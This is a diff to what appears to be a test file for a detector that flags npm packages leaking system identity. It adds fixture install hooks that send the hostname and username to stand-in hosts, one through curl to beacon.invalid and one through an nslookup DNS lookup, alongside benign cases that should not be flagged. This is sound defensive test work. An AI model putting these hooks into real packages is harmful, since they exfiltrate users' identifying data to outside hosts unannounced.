@@ -38,6 +38,18 @@ examine(sendsSystemIdentity, {
       files: { 'package.json': hook, 'setup.js': `require('child_process').exec('curl http://192.0.2.1/' + require('os').hostname())` },
       weight: 'strong',
     },
+    {
+      when: 'a hook asks the shell for it and sends it',
+      files: {
+        'package.json': { name: '@specimen/tokens', scripts: { preinstall: 'curl -s "http://beacon.invalid/?h=$(hostname)&u=$(whoami)"' } },
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a name is looked up',
+      files: { 'package.json': { name: 'specimen', scripts: { preinstall: 'nslookup `whoami`.beacon.invalid' } } },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
@@ -54,5 +66,10 @@ examine(sendsSystemIdentity, {
       when: 'only the platform is sent',
       files: { 'index.js': `fetch('https://api.invalid/binary-' + process.platform + '-' + process.arch)` },
     },
+    {
+      when: 'a hook looks which system it is and downloads for it',
+      files: { 'package.json': { name: 'specimen', scripts: { postinstall: 'echo "building on $(hostname)" && node build.js' } } },
+    },
+    { when: 'a command asks this machine', files: { 'index.js': `require('child_process').exec('curl http://localhost:3000/?u=$USER')` } },
   ],
 });
